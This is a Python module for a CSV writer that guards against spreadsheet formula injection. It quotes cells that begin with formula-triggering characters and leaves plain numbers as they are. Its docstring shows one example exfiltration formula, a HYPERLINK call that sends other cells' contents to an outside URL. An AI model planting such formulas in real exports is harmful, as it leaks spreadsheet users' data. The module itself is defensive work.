"""CSV files that are safe to open in a spreadsheet: the project's one CSV writer.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab, CR, LF) is read by
Excel, LibreOffice and Google Sheets as a formula, e.g. ``=HYPERLINK("http://…"&A2)`` that
sends other cells away when clicked. Text in our CSVs comes from uploaded files (study
descriptions) and research lists, so every such cell gets a leading ``'`` (OWASP's advice;
spreadsheets show the text, without the quote, and do not evaluate it).

Numbers stay numbers: ``int``/``float`` values, and text that is a plain decimal number
(``-5``, ``+12``, ``-0.5``, ``1e-3``: it cannot be a formula), are written as they are, so a
negative value in a numeric column is still a number in the spreadsheet.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """``value`` as a CSV cell that no spreadsheet evaluates (None: empty)."""
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    text = str(value)
    if _PLAIN_NUMBER.fullmatch(text):
        return text
    if text.startswith(FORMULA_START) or text.lstrip().startswith(FORMULA_START):
        return "'" + text
    return text


def csv_text(columns: list[str], rows: Iterable[Mapping[str, object]]) -> str:
    """A CSV document: a header of ``columns``, then one line per row (missing keys are
    empty cells, other keys are left out); header and cells through :func:`safe_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(name) for name in columns])
    for row in rows:
        writer.writerow([safe_cell(row.get(name)) for name in columns])
    return buffer.getvalue()
